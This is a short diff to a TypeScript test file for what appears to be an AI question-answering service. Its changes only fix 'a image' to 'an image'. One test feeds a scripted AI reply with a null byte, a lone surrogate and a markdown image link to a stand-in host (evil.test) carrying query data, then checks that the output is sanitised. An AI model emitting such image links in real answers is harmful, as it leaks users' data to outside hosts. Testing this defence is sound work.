@@ -324,7 +324,7 @@ describe('faults', () => {
 
   test('what no table can hold and no reader should load is taken out of an answer', async () => {
     ai.script(says([cite('Three\u0000 \ud800![](https://evil.test/?q=hearts).', 'three hearts')]));
-    const { answer } = await ask('How many hearts, with a image?');
+    const { answer } = await ask('How many hearts, with an image?');
     expect(answer).toBe('Three \ufffd[] (https://evil.test/?q=hearts). [1]');
   });
 
@@ -357,7 +357,7 @@ describe('faults', () => {
   });
 });
 
-describe('a image of the problem', () => {
+describe('an image of the problem', () => {
   const form = (image: Uint8Array, fields: Record<string, string> = {}) => {
     const data = new FormData();
     data.set('file', new Blob([Buffer.from(image)]), 'problem.png');
